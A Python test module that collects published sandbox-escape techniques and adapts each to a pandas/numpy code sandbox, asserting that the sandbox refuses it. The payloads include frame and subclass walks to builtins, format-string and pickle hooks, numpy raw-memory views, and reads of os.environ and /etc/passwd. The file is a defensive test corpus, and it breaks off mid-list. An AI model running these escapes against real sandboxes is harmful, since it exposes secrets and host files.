"""A corpus of published sandbox-escape techniques, each adapted to Quarry's sandbox.

Every entry is a technique someone published against a Python sandbox — a security advisory
(RestrictedPython, asteval, smolagents, llama_index), a bug report (numpy, scipy, pandas,
CPython, simpleeval), a test in another sandbox's suite (smolagents' LocalPythonExecutor), a
cheat sheet (HackTricks "Bypass Python sandboxes", PayloadsAllTheThings, salvatore-abello's
python-ctf-cheatsheet, jailctf's pyjailbreaker) or a CTF write-up those cite — rewritten for
what a snippet here can reach: pandas, numpy, scipy, scikit-learn, plotly and a few pure
standard modules, behind RestrictedPython, a guard on every attribute, an audit hook and the
process jail. The cases the other security tests already hold (test_escapes, test_files,
test_network, test_processes) are not repeated: this corpus adds the published variants.

Each `Technique` carries a `source`: where the technique was published, named so that it can
be found again — "<project> issue #N", "<project> PR #N", "<advisory id> (<CVE>)", "<test
suite file>: <test name>", "<cheat sheet>: <section>", "CTF write-up: <event> <challenge>
(<author or page that cites it>)". "adapted" in a source means the payload was rewritten for
this sandbox (another module re-exporting `sys`, a pandas method instead of a Jinja filter).

Each case asserts both halves: the sandbox refused it (the error type and message of the
language layer, the import hook, the attribute guard, a library rule, the audit hook — or
numpy's own bounds checks, which the sandbox relies on), and it had no effect seen from the
host: no secret planted in the environment and no line of /etc/passwd in the result, no file
at the path a write aimed at, no connection at the listener, no marker file from a shell.

A technique that is not refused is not weakened here: it is marked
`xfail(strict=True, reason="OPEN HOLE: ...")` and stays in the corpus until it is closed.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.security.conftest import (
    PASSWD_SENTINEL,
    SECRET_MARKERS,
    Listener,
    Sandbox,
    refused,
)


class Technique(NamedTuple):
    id: str
    family: str
    source: str
    code: str
    kind: str  # the error type the refusal raises
    fragment: str  # a part of its message
    hole: str | None = None  # set while the technique is an open hole (xfail, strict)


# --- families ---------------------------------------------------------------------------------

SUBCLASSES = "subclasses/mro walks"
COMPUTED = "getattr with computed names"
FRAMES = "frame, generator, coroutine and traceback walks"
FUNCTIONS = "function internals: closures, defaults, code objects"
FORMAT = "format-string field walks"
BUILTINS = "builtins recovery"
UNICODE = "unicode identifier normalisation"
IMPORTS = "import tricks"
CLASSES = "decorators, class bodies, metaclasses, dunder hooks"
EXCEPTIONS = "exceptions carrying frames or hooks"
SERIALIZATION = "pickle, marshal, codecs, ctypes"
OPERATOR = "operator.attrgetter and methodcaller"
WRAPPERS = "attribute copying: functools, dataclasses, class pollution"
REEXPORTS = "dangerous modules re-exported by allowed libraries"
MEMORY = "raw memory through numpy and scipy"
PANDAS = "pandas eval, query and methods by name"
AUDIT = "audit-hook bypass, resource limits, signals, threads"
READS = "file reads through library readers"
WRITES = "file writes through library writers"
NETWORK = "network through library readers"
PROCESSES = "processes through library re-exports"

# --- sources cited many times -----------------------------------------------------------------

HACKTRICKS = "HackTricks: Bypass Python sandboxes"
CHEATSHEET = "python-ctf-cheatsheet (salvatore-abello): pyjails/README.md"
SMOLAGENTS = "smolagents tests/test_local_python_executor.py: "
SUBMODULES = SMOLAGENTS + "test_vulnerability_via_submodules"
INDIRECT = SMOLAGENTS + "test_vulnerability_via_submodules_through_indirect_attribute_access"
PATT_SSTI = "PayloadsAllTheThings: Server Side Template Injection/Python.md"
PATT_PICKLE = "PayloadsAllTheThings: Insecure Deserialization/Python.md"
LIBRARY_IO = "llama_index issue #20690 (PandasQueryEngine: files and network through pandas/numpy)"
TREEBOX = "CTF write-up: Google CTF 2022 Treebox (ur4ndom.dev, via HackTricks)"
DUNDER_HOOKS = "smolagents issue #2395 (dunder methods of snippet classes run implicitly)"
NUMPY_6811 = "numpy issue #6811 (an integer view of an object array's memory)"

_FRAME = "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2], 'b': [3, 4]})\n"
_OBJS = "import numpy as np\nobjs = np.array([None], dtype=object)\n"

# Techniques that are not refused today: each runs as an xfail (strict) until it is closed.
# (None now. The last five — np.ma.frombuffer, chararray(buffer=), recarray(buf=) over object
# pointers, a negative ndarray offset, unchecked csr_matrix indices — were closed by the
# policy's raw-memory rules and scipy.sparse's checked classes.)
HOLES: dict[str, str] = {}


def _family(family: str, *cases: tuple[str, str, str, str]) -> list[Technique]:
    """Techniques of one family from (id, source, code, "ErrorType: message fragment")."""
    techniques = []
    for id_, source, code, expected in cases:
        kind, fragment = expected.split(": ", 1)
        techniques.append(Technique(id_, family, source, code, kind, fragment, HOLES.get(id_)))
    return techniques


# --- techniques judged on the result alone (secrets, /etc/passwd, the worker's source) ---------

LANGUAGE = [
    *_family(
        SUBCLASSES,
        (
            "catch-warnings-module-builtins",
            SMOLAGENTS + "test_vulnerability_builtins_via_class_catch_warnings",
            "classes = {}.__class__.__base__.__subclasses__()\nfor cls in classes:\n"
            "    if cls.__name__ == 'catch_warnings':\n        break\n"
            "b = cls()._module.__builtins__\nb['__import__']('os').environ",
            "PolicyError: is an invalid attribute name",
        ),
        (
            "builtin-importer-load-module",
            SMOLAGENTS + "test_vulnerability_load_module_via_builtin_importer",
            "classes = {}.__class__.__base__.__subclasses__()\nfor cls in classes:\n"
            "    if cls.__name__ == 'BuiltinImporter':\n        break\n"
            "cls().load_module('os').environ",
            "PolicyError: is an invalid attribute name",
        ),
        (
            "getattribute-call",
            SMOLAGENTS + "test_vulnerability_via_dunder_call",
            "def func():\n    pass\nfunction_class = func.__getattribute__('__class__')\n"
            "object_class = type.__getattribute__(function_class, '__bases__')[0]",
            'PolicyError: "__getattribute__" is an invalid attribute name',
        ),
        (
            "getattribute-by-getattr",
            SMOLAGENTS + "test_vulnerability_via_dunder_call (adapted: the method fetched by "
            "getattr)",
            "def func():\n    pass\ngetattr(func, '__getattribute__')('__class__')",
            'AttributeError: "__getattribute__" is not available in the sandbox (names '
            'starting with "_" are private)',
        ),
        (
            "mro-method-without-underscores",
            HACKTRICKS + ': "".__getattribute__("__class__").mro()[1].__subclasses__()',
            "type('').mro()[1]",
            'AttributeError: "mro" is not available in the sandbox',
        ),
        (
            "abcmeta-register",
            CHEATSHEET + ": no builtins, no mro: "
            "().__class__.__class__.__subclasses__()[0].register",
            "import collections.abc as c\ntype(c.Sequence).register",
            "PolicyError: Metaclasses are not available in the sandbox",
        ),
        (
            "walrus-load-module",
            "CTF write-up: 0CTF/TCTF 2020 Quals pyaucalc (ur4ndom.dev, via HackTricks: walrus)",
            "[y := ().__class__.__base__.__subclasses__()[84]().load_module('builtins'), "
            "y.__import__('signal').alarm(0)]",
            "PolicyError: is an invalid attribute name",
        ),
    ),
    *_family(
        COMPUTED,
        (
            "concatenated-dunder-name",
            "aden-hive/hive issue #2743 (attribute names built by string concatenation)",
            "import pandas as pd\n"
            "getattr(pd.DataFrame.__init__, '_' * 2 + 'globals' + '_' * 2)['os'].environ",
            'AttributeError: "__globals__" is not available in the sandbox',
        ),
        (
            "hex-escaped-dunder-name",
            PATT_SSTI + ": Jinja2 filter bypass, attr('\\x5f\\x5fclass\\x5f\\x5f')",
            "getattr((), '\\x5f\\x5fclass\\x5f\\x5f')",
            'AttributeError: "__class__" is not available in the sandbox',
        ),
        (
            "getattr-through-map",
            INDIRECT + " (map)",
            "import datetime\nlist(map(getattr, [datetime], ['sys']))",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "getattr-through-reduce",
            INDIRECT + " (adapted: functools.reduce walks a chain of names)",
            "import functools\nfunctools.reduce(getattr, ['__class__', '__base__'], ())",
            'AttributeError: "__class__" is not available in the sandbox',
        ),
        (
            "getattr-through-dataframe-pipe",
            INDIRECT + " (adapted: getattr handed to DataFrame.pipe)",
            _FRAME + "df.pipe(getattr, '__class__')",
            'AttributeError: "__class__" is not available in the sandbox',
        ),
        (
            "attribute-error-obj",
            "jailctf/pyjailbreaker gadgets/python/builtins/getattr.py: getattr__attrerror",
            "try:\n    '{0.__class__.xx}'.format(1)\nexcept AttributeError as e:\n"
            "    leaked = e.obj",
            "PolicyError: format templates that look up attributes or items",
        ),
    ),
    *_family(
        FRAMES,
        (
            "generator-frame-globals",
            "simpleeval issue #138 (foo.bar().gi_frame.f_globals['__builtins__'])",
            "def bar():\n    yield 'x'\nbar().gi_frame.f_globals['__builtins__']",
            "PolicyError: is a restricted name, that is forbidden to access in RestrictedPython",
        ),
        (
            "genexp-frame-builtins",
            CHEATSHEET + ": bypass blacklists using generators, (x for x in "
            "()).gi_frame.f_builtins",
            "getattr(getattr((x for x in ()), 'gi_' + 'frame'), 'f_builtins')",
            'AttributeError: "gi_frame" is not available in the sandbox',
        ),
        (
            "self-referencing-genexp",
            "jailctf/pyjailbreaker gadgets/python/get_builtins.py: get_builtins__gi_builtins",
            "g = (g.gi_frame.f_back for x in [1])\n[x for x in g][0].f_back.f_back.f_builtins",
            "PolicyError: is a restricted name, that is forbidden to access in RestrictedPython",
        ),
        (
            "coroutine-frame",
            CHEATSHEET + ": bypass blacklists using asynchronous functions, a().cr_frame.f_globals",
            "async def a():\n    pass\na().cr_frame.f_globals",
            "PolicyError: AsyncFunctionDef statements are not allowed",
        ),
        (
            "coroutine-frame-by-getattr",
            "simpleeval issue #138 (the async variant, foo.bar().cr_frame)",
            "def bar():\n    yield 1\ngetattr(bar(), 'cr_' + 'frame')",
            'AttributeError: "cr_frame" is not available in the sandbox',
        ),
        (
            "traceback-frame-builtins",
            SMOLAGENTS + "test_vulnerability_builtins_via_traceback",
            "try:\n    1 / 0\nexcept Exception as e:\n"
            "    b = e.__traceback__.tb_frame.f_back.f_globals['__builtins__']",
            'PolicyError: "f_globals" is a restricted name',
        ),
        (
            "traceback-by-getattr",
            "CPython issue #86966 / bpo-42800 (traceback objects reach frames without an audit "
            "event)",
            "try:\n    1 / 0\nexcept Exception as e:\n"
            "    getattr(getattr(e, '__traceback__'), 'tb_frame')",
            'AttributeError: "__traceback__" is not available in the sandbox',
        ),
        (
            "sys-getframe-via-fractions",
            SMOLAGENTS + "test_vulnerability_builtins_via_sys (adapted: fractions.sys)",
            "import fractions\ngetattr(fractions.sys, '_getframe')(0)",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "inspect-stack-via-sklearn",
            SUBMODULES + " (doctest.inspect.os; adapted: sklearn's kernels module re-exports "
            "inspect)",
            "import sklearn.gaussian_process.kernels as k\nk.inspect.stack()",
            "PolicyError: Module 'inspect' is not available in the sandbox",
        ),
    ),
    *_family(
        FUNCTIONS,
        (
            "python2-func-globals",
            "simpleeval issue #15 (func_globals / __globals__ of a reachable function)",
            "def f():\n    pass\ngetattr(f, 'func_globals')",
            'AttributeError: "func_globals" is not available in the sandbox',
        ),
        (
            "lambda-default-builtin-self",
            CHEATSHEET + ": restore builtins, len.__self__ (through a lambda's default argument)",
            "(lambda f=len: f.__self__)()",
            'PolicyError: "__self__" is an invalid attribute name',
        ),
        (
            "closure-cells",
            CHEATSHEET + ": other useful things, user_defined_function.__closure__",
            "def outer():\n    x = 1\n    def inner():\n        return x\n    return inner\n"
            "getattr(outer(), '__closure__')",
            'AttributeError: "__closure__" is not available in the sandbox',
        ),
        (
            "code-replace-load-fast",
            "CTF write-up: HITCON CTF 2022 V O I D (blog.splitline.tw, via python-ctf-cheatsheet)",
            "(lambda: 0).__code__.replace(co_code=b'|\\x17S\\x00', co_argcount=0)",
            'PolicyError: "__code__" is an invalid attribute name',
        ),
    ),
    *_family(
        FORMAT,
        (
            "format-globals-to-environ",
            "Skyvern PR #7039 "
            "('{0.__globals__[codecs].open.__globals__[sys].modules[os].environ}')",
            "import json\n"
            "'{0.__globals__[codecs].open.__globals__[sys].modules[os].environ}'.format(json.dumps)",
            "PolicyError: format templates that look up attributes or items",
        ),
        (
            "format-keyword-init-globals",
            HACKTRICKS + ": Python format string, {people_obj.__init__.__globals__[CONFIG][KEY]}",
            "class People:\n    def __init__(self):\n        self.name = 'x'\n"
            "'{people_obj.__init__.__globals__[CONFIG][KEY]}'.format(people_obj=People())",
            "PolicyError: format templates that look up attributes or items",
        ),
        (
            "format-loads-a-library",
            "CTF write-up: BuckeyeCTF TypeMonkey (corgi.rip, via HackTricks: from format to RCE)",
            "import json\n"
            "'{0.__globals__[codecs].sys.modules[ctypes].cdll[libc]}'.format(json.dumps)",
            "PolicyError: format templates that look up attributes or items",
        ),
        (
            "custom-format-method",
            HACKTRICKS + ": Python format string, class HAL9000 with __format__",
            "class HAL9000:\n    def __format__(self, spec):\n        return spec\n"
            "format(HAL9000(), 'open-the-pod-bay-doors')",
            'PolicyError: "__format__" is an invalid variable name',
        ),
        (
            "unbound-format-by-getattr",
            "pallets/jinja PR #2205 (the unbound str.format, getattr(str, 'format'))",
            "getattr(str, 'format')('{0.__class__}', 1)",
            "PolicyError: str.format is not available in the sandbox",
        ),
        (
            "unbound-format-map",
            "zopefoundation/RestrictedPython PR #258 (format_map blocked like format)",
            "str.format_map('{x.__class__}', {'x': 1})",
            "PolicyError: str.format is not available in the sandbox",
        ),
        (
            "format-of-the-type-of-a-str",
            "lmfit/asteval issue #32 (type(str) gives the real type back; str.format is dangerous)",
            "type('').format('{0.__class__}', 1)",
            "PolicyError: str.format is not available in the sandbox",
        ),
        (
            "to-string-formatters",
            "RestrictedPython GHSA-xjw2-6jm9-rf67 (CVE-2023-41039), adapted: "
            "to_string(formatters=)",
            "import pandas as pd\n"
            "pd.DataFrame({'a': [1.5]}).to_string(formatters={'a': "
            "'{0.__class__.__mro__}'.format})",
            "PolicyError: format templates that look up attributes or items",
        ),
        (
            "numpy-printoptions-formatter",
            "smolagents PR #2271 (format field paths are looked up in C), adapted: "
            "np.set_printoptions",
            "import numpy as np\nnp.set_printoptions(formatter={'float': '{0.__class__}'.format})",
            "PolicyError: format templates that look up attributes or items",
        ),
        (
            "pandas-display-float-format",
            "aden-hive/hive issue #715 (format strings pass AST checks), adapted: "
            "display.float_format",
            "import pandas as pd\n"
            "pd.set_option('display.float_format', '{0.real.__class__}'.format)",
            "PolicyError: format templates that look up attributes or items",
        ),
        (
            "f-string-nested-spec",
            "ctf-wiki/ctf-wiki issue #381 (f-strings in Python sandbox escapes)",
            "x = 1\nf'{x:{x.__class__}}'",
            'PolicyError: "__class__" is an invalid attribute name',
        ),
    ),
    *_family(
        BUILTINS,
        (
            "builtin-self-by-getattr",
            CHEATSHEET + ": restore builtins, len.__self__",
            "getattr(len, '__self__')",
            'AttributeError: "__self__" is not available in the sandbox',
        ),
        (
            "build-class-self",
            CHEATSHEET + ": restore builtins, __build_class__.__self__",
            "__build_class__.__self__",
            "PolicyError: is an invalid",
        ),
        (
            "help-pager",
            CHEATSHEET + ": read a file, help() then ':e/flag'",
            "help()",
            "PolicyError: help() is not available in the sandbox",
        ),
        (
            "breakpoint-shell",
            CHEATSHEET + ": spawning a shell, breakpoint()",
            "breakpoint()",
            'PolicyError: "breakpoint" is a reserved name',
        ),
        (
            "exec-input",
            CHEATSHEET + ": spawning a shell, exec(input())",
            "exec(input())",
            "PolicyError: Exec calls are not allowed",
        ),
        (
            "sys-breakpointhook",
            "python-ctf-cheatsheet (salvatore-abello): libraries/sys/README.md, "
            "sys.breakpointhook()",
            "import fractions\nfractions.sys.breakpointhook()",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
    ),
    *_family(
        UNICODE,
        (
            "italic-breakpoint",
            CHEATSHEET + ": no ASCII letters (PEP 672), italic breakpoint()",
            "\U0001d623\U0001d633\U0001d626\U0001d622\U0001d62c\U0001d631\U0001d630\U0001d62a\U0001d62f\U0001d635()",
            'PolicyError: "breakpoint" is a reserved name',
        ),
        (
            "fullwidth-dunder-import",
            CHEATSHEET + ": no ASCII letters, no underscores, _\uff3f(italic import)\uff3f_",
            "_\uff3f\U0001d62a\U0001d62e\U0001d631\U0001d630\U0001d633\U0001d635\uff3f_('os')",
            'PolicyError: "__import__" is an invalid variable name',
        ),
        (
            "fullwidth-eval",
            "PEP 672 (Unicode-related security considerations: NFKC identifiers), fullwidth eval",
            "\uff45\uff56\uff41\uff4c('1 + 1')",
            "PolicyError: Eval calls are not allowed",
        ),
    ),
    *_family(
        IMPORTS,
        (
            "loader-load-module",
            "jailctf/pyjailbreaker gadgets/python/get_os.py: get_os__loader",
            "__loader__.load_module('os').environ",
            'PolicyError: "__loader__" is an invalid variable name',
        ),
        (
            "module-loader-by-getattr",
            "jailctf/pyjailbreaker get_os__loader (adapted: an allowed module's __loader__)",
            "import numpy as np\ngetattr(np, '__loader__').load_module('os')",
            'AttributeError: "__loader__" is not available in the sandbox',
        ),
        (
            "private-module-alias",
            SUBMODULES + " (random._os.system)",
            "import random\nrandom._os.system(':')",
            'AttributeError: "_os" is not available in the sandbox (names starting with "_" '
            "are private",
        ),
        (
            "warnings-sys",
            SUBMODULES + " (warnings.sys)",
            "import warnings\nwarnings.sys.modules['os']",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "star-import",
            HACKTRICKS + ": from os import * (adapted: the names of a module re-exporting sys)",
            "from datetime import *\nsys.modules['os']",
            'PolicyError: "*" imports are not allowed',
        ),
    ),
    *_family(
        CLASSES,
        (
            "decorator-exec-input",
            TREEBOX + ": RCE with decorators, @exec @input class X",
            "@exec\n@input\nclass X:\n    pass",
            "NameError: name 'exec' is not defined",
        ),
        (
            "decorator-set-open-input",
            CHEATSHEET + ": no function call and no exec/eval, @print @set @open @input",
            "@set\n@open\n@input\ndef a():\n    pass",
            "PolicyError: open() is not available in the sandbox",
        ),
        (
            "iadd-is-exec",
            HACKTRICKS + ": RCE with custom classes, __iadd__ = exec",
            "class RCE:\n    def __init__(self):\n        self += 'import os'\n"
            "    __iadd__ = exec\nRCE()",
            'PolicyError: "__iadd__" is an invalid variable name',
        ),
        (
            "metaclass-getitem",
            HACKTRICKS + ": creating objects with metaclasses, class Metaclass(type)",
            "class Metaclass(type(int)):\n    pass",
            "PolicyError: Metaclasses are not available in the sandbox",
        ),
        (
            "class-getitem-call",
            CHEATSHEET + ": no (), [[None for _.__class_getitem__ in [exec]], _['breakpoint()']]",
            "class C:\n    pass\n"
            "[[None for C.__class_getitem__ in [exec]], C['breakpoint()']][True]",
            'PolicyError: "__class_getitem__" is an invalid attribute name',
        ),
        (
            "overwrite-builtins-import",
            "google/google-ctf 2022 sandbox-treebox healthcheck/solution.py "
            "(__builtins__.__import__)",
            "class X:\n    pass\n__builtins__.__import__ = X",
            "PolicyError: is an invalid",
        ),
        (
            "del-time-bomb",
            DUNDER_HOOKS + ": __del__",
            "class T:\n    def __del__(self):\n        pass",
            'PolicyError: "__del__" is an invalid variable name',
        ),
        (
            "init-subclass-hook",
            DUNDER_HOOKS + " (adapted: __init_subclass__ runs when a class is defined)",
            "class A:\n    def __init_subclass__(cls):\n        pass",
            'PolicyError: "__init_subclass__" is an invalid variable name',
        ),
        (
            "set-name-hook",
            DUNDER_HOOKS + " (adapted: __set_name__ runs in the owner's class body)",
            "class D:\n    def __set_name__(self, owner, name):\n        pass",
            'PolicyError: "__set_name__" is an invalid variable name',
        ),
        (
            "setattr-dunder-on-a-class",
            HACKTRICKS + ": RCE with custom classes, overwriting existing class methods",
            "class A:\n    pass\nsetattr(A, '__eq__', print)",
            'AttributeError: "__eq__" is not available in the sandbox',
        ),
    ),
    *_family(
        EXCEPTIONS,
        (
            "exception-add-exec",
            HACKTRICKS + ": creating objects with exceptions, class Klecko(Exception): __add__ = "
            "exec",
            "class Klecko(Exception):\n    __add__ = exec\ntry:\n    raise Klecko\n"
            "except Klecko as k:\n    k + 'import os'",
            'PolicyError: "__add__" is an invalid variable name',
        ),
        (
            "excepthook",
            TREEBOX + ": sys.excepthook = X; 1/0",
            "import datetime\ndatetime.sys.excepthook = print\n1 / 0",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "exception-context",
            SMOLAGENTS + "test_vulnerability_builtins_via_traceback (adapted: the chained "
            "exception)",
            "try:\n    1 / 0\nexcept Exception as e:\n    c = e.__context__",
            'PolicyError: "__context__" is an invalid attribute name',
        ),
    ),
    *_family(
        SERIALIZATION,
        (
            "reduce-method",
            PATT_PICKLE + ": class Evil with __reduce__ returning (os.system, ...)",
            "class Evil:\n    def __reduce__(self):\n        return (print, ('whoami',))",
            'PolicyError: "__reduce__" is an invalid variable name',
        ),
        (
            "reduce-of-a-builtin",
            "lmfit/asteval issue #86 (print.__reduce__() hands back getattr)",
            "getattr(len, '__reduce_ex__')(2)",
            'AttributeError: "__reduce_ex__" is not available in the sandbox',
        ),
        (
            "marshal-loads",
            "HackTricks: Keras model deserialization RCE (CVE-2024-3660, marshal.loads of "
            "bytecode)",
            "import marshal\nmarshal.loads(b'')",
            "ImportError: Module 'marshal' is not available in the sandbox",
        ),
        (
            "private-ctypes",
            "smolagents issue #2094 (ctypes escape; the thread names _ctypes, cffi, mmap)",
            "import _ctypes",
            "ImportError: Module '_ctypes' is not available in the sandbox",
        ),
        (
            "cffi",
            "smolagents issue #2094 (ctypes escape; the thread names _ctypes, cffi, mmap)",
            "import cffi\ncffi.FFI().dlopen(None)",
            "ImportError: Module 'cffi' is not available in the sandbox",
        ),
    ),
    *_family(
        OPERATOR,
        (
            "attrgetter-via-sklearn",
            PATT_SSTI + ": |attr('__class__') (adapted: sklearn.utils.validation re-exports "
            "operator)",
            "import sklearn.utils.validation as v\nv.operator.attrgetter('__class__')(1)",
            "PolicyError: Module 'operator' is not available in the sandbox",
        ),
        (
            "methodcaller-via-numpy-polyutils",
            SUBMODULES + " (adapted: numpy.polynomial.polyutils re-exports operator)",
            "import numpy.polynomial.polyutils as pu\n"
            "pu.operator.methodcaller('__reduce_ex__', 2)(1)",
            "PolicyError: Module 'operator' is not available in the sandbox",
        ),
    ),
    *_family(
        WRAPPERS,
        (
            "kwdefaults-copied-by-update-wrapper",
            "HackTricks: Class Pollution (Python's prototype pollution), overwriting "
            "__kwdefaults__",
            "import functools\ndef execute(*, command='id'):\n    return command\n"
            "def donor(*, command='whoami'):\n    return command\n"
            "functools.update_wrapper(execute, donor, assigned=('__kwdefaults__',))",
            "PolicyError: copy their usual attributes only",
        ),
        (
            "class-pollution-merge",
            "HackTricks: Class Pollution: a recursive merge setattr()s through __class__/__init__",
            "def merge(src, dst):\n    for k, v in src.items():\n"
            "        if isinstance(v, dict) and hasattr(dst, k):\n"
            "            merge(v, getattr(dst, k))\n        else:\n"
            "            setattr(dst, k, v)\nclass Employee:\n    def __init__(self):\n"
            "        pass\n"
            "merge({'__class__': {'__init__': {'__globals__': {'x': 1}}}}, Employee())",
            'AttributeError: "__class__" is not available in the sandbox',
        ),
        (
            "make-dataclass-via-scipy",
            SUBMODULES + " (adapted: scipy.spatial.distance re-exports dataclasses' class factory)",
            "import scipy.spatial.distance as d\nd.dataclasses.make_dataclass('X', ['a'])",
            "PolicyError: Module 'dataclasses' is not available in the sandbox",
        ),
    ),
    *_family(
        REEXPORTS,
        (
            "environ-via-plotly-tools",
            "sinaptik-ai/pandas-ai issue #43 (import os; os.environ exposes the API key)",
            "import plotly.tools as t\ndict(t.os.environ)",
            "PolicyError: Module 'os' is not available in the sandbox",
        ),
        (
            "sys-modules-via-numpy-matrixlib",
            SMOLAGENTS + "test_vulnerability_via_sys (sys.modules['os']; adapted: numpy's "
            "defmatrix)",
            "import numpy.matrixlib.defmatrix as d\nd.sys.modules['os'].environ",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "typing-via-sklearn-impute",
            SUBMODULES + " (adapted: sklearn.impute re-exports typing, whose get_type_hints evals)",
            "import sklearn.impute as imp\nimp.typing.get_type_hints",
            "PolicyError: Module 'typing' is not available in the sandbox",
        ),
    ),
    *_family(
        MEMORY,
        (
            "frombuffer-none-array",
            NUMPY_6811 + ": np.frombuffer(np.array(None), np.int64)[0] = 1",
            "import numpy as np\nnp.frombuffer(np.array(None), np.int64)[0] = 1",
            "PolicyError: over an array of Python objects is not available",
        ),
        (
            "ndarray-buffer-objects",
            NUMPY_6811 + ", adapted: the ndarray constructor's buffer=",
            _OBJS + "np.ndarray((1,), dtype=np.int64, buffer=objs)",
            "PolicyError: over an array of Python objects is not available",
        ),
        (
            "object-to-integer-field",
            "numpy issue #2865 (astype(('O', [('name', 'Q')])) reads object pointers as integers)",
            "import numpy as np\na = np.array([1], dtype='O').astype(('O', [('name', 'Q')]))\n"
            "a['name']",
            "ValueError: containing the object dtype are not supported",
        ),
        (
            "private-scalar-constructor",
            "numpy issue #28316 (np._core.multiarray.scalar(np.dtype('O')) segfaults)",
            "import numpy as np\nnp._core.multiarray.scalar(np.dtype('O'))",
            'AttributeError: "_core" is not available in the sandbox (names starting with "_" '
            "are private",
        ),
        (
            "getfield-negative-offset",
            "numpy issue #12105 (ndarray.getfield() does not check the offset)",
            "import numpy as np\nnp.zeros(32, 'u1').getfield('u1', -2048)",
            "ValueError: offset is negative",
        ),
        (
            "as-strided-from-import",
            "numpy PR #8315 (as_strided reads out of bounds for a bad shape or strides)",
            "from numpy.lib.stride_tricks import as_strided\nimport numpy as np\n"
            "as_strided(np.zeros(1), shape=(10**6,), strides=(8,))",
            "PolicyError: as_strided is not available in the sandbox",
        ),
        (
            "array-interface-property",
            "numpy issue #31036 (an __array_interface__ property leaves a dangling data pointer)",
            "class Fake:\n    @property\n    def __array_interface__(self):\n"
            "        return {'data': (8, False), 'shape': (8,), 'typestr': '|u1', 'version': 3}",
            'PolicyError: "__array_interface__" is an invalid variable name',
        ),
        (
            "masked-frombuffer-objects",
            NUMPY_6811 + ", adapted: np.ma.frombuffer wraps the real np.frombuffer",
            _OBJS + "view = np.ma.frombuffer(objs, dtype=np.int64)\nview[0] = view[0]\n"
            "bool(view.flags.writeable), int(view[0]) == id(None)",
            "PolicyError: over an array of Python objects is not available",
        ),
        (
            "chararray-buffer-objects",
            NUMPY_6811 + ", adapted: np.char.chararray(buffer=)",
            _OBJS + "c = np.char.chararray((8,), itemsize=1, buffer=objs)\n"
            "int.from_bytes(b''.join(c.tolist()).ljust(8, b'\\0'), 'little') == "
            "id(None), bool(c.flags.writeable)",
            "PolicyError: over an array of Python objects is not available",
        ),
        (
            "recarray-buf-objects",
            NUMPY_6811 + ", adapted: np.recarray(buf=)",
            _OBJS + "r = np.recarray((1,), dtype=[('p', '<i8')], buf=objs)\n"
            "int(r.p[0]) == id(None), bool(r.flags.writeable)",
            "PolicyError: over an array of Python objects is not available",
        ),
        (
            "ndarray-negative-offset",
            "numpy issue #12105 (ndarray.getfield() did not check its offset: memory outside "
            "the array), adapted: np.ndarray(buffer=, offset=-8)",
            "import numpy as np\nbuf = bytearray(b'ABCDEFGH')\n"
            "v = np.ndarray((16,), np.uint8, buffer=buf, offset=-8)\n"
            "bytes(v[8:]) == b'ABCDEFGH', len(bytes(v[:8]).hex())",
            "PolicyError: offset",
        ),
        (
            "csr-matrix-out-of-bounds-index",
            "scipy issue #8778 (csr_matrix accepts out-of-bounds indices; later operations read "
            "and write past the arrays)",
            "import numpy as np\nimport scipy.sparse as sp\nx = np.arange(2.0)\n"
            "m = sp.csr_matrix(([1.0], [-2], [0, 1]), shape=(1, 2))\nlen((m @ x).tolist())",
            "PolicyError: indices",
        ),
    ),
    *_family(
        PANDAS,
        (
            "eval-empty-dicts-use-the-frame",
            "pandas issue #47084 (empty local_dict/global_dict fall back to the caller's frame)",
            _FRAME + "df.eval('c = @df.a + @df.b', local_dict={}, global_dict={})",
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "query-python-engine",
            "dtale CVE-2023-46134 (GHSA-jq6c-r9xf-qxjm; github/securitylab issue #814: query sink)",
            _FRAME + "df.query('a.real > 0', engine='python')",
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "eval-by-name",
            "pandas PR #58697 (DataFrame.eval/query run @variables), adapted: eval by name",
            _FRAME + "df.aggregate('eval', expr='@pd')",
            "PolicyError: cannot call 'eval' by name",
        ),
    ),
    *_family(
        AUDIT,
        (
            "add-audit-hook",
            CHEATSHEET + ": bypass audit sandboxes (adapted: a hook of the snippet's own)",
            "import datetime\ndatetime.sys.addaudithook(print)",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "posixsubprocess-fork-exec",
            "CPython issue #115322 (_posixsubprocess.fork_exec raises no audit event)",
            "import _posixsubprocess",
            "ImportError: Module '_posixsubprocess' is not available in the sandbox",
        ),
        (
            "signal-alarm",
            "CTF write-up: 0CTF/TCTF 2020 Quals pyaucalc (__import__('signal').alarm(0))",
            "import signal\nsignal.alarm(0)",
            "ImportError: Module 'signal' is not available in the sandbox",
        ),
        (
            "raise-rlimits",
            "CTF write-up: 0CTF/TCTF 2020 Quals pyaucalc (signal.alarm(0) lifts the time limit;"
            " adapted: resource.setrlimit)",
            "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (-1, -1))",
            "ImportError: Module 'resource' is not available in the sandbox",
        ),
        (
            "start-new-thread",
            "CPython gh-99377 / PR #99378 (creating a thread raised no audit event)",
            "import threading\nthreading.Thread(target=print).start()",
            "ImportError: Module 'threading' is not available in the sandbox",
        ),
        (
            "private-thread-module",
            "CPython gh-99377 / PR #99378 (_thread.start_new_thread raised no audit event)",
            "import _thread",
            "ImportError: Module '_thread' is not available in the sandbox",
        ),
    ),
]

# --- reads: /etc/passwd, the environment -----------------------------------------------------

READS_TABLE = [
    *_family(
        READS,
        (
            "read-table-passwd",
            LIBRARY_IO + " (adapted: pd.read_table)",
            "import pandas as pd\npd.read_table('/etc/passwd', sep=':', header=None)",
            "PolicyError: pandas.read_table reads files or URLs",
        ),
        (
            "read-csv-file-url",
            LIBRARY_IO + " (adapted: a file:// URL)",
            "import pandas as pd\npd.read_csv('file:///etc/passwd', sep=':', header=None)",
            "PolicyError: pandas.read_csv reads files or URLs",
        ),
        (
            "excel-file",
            LIBRARY_IO + " (adapted: pd.ExcelFile)",
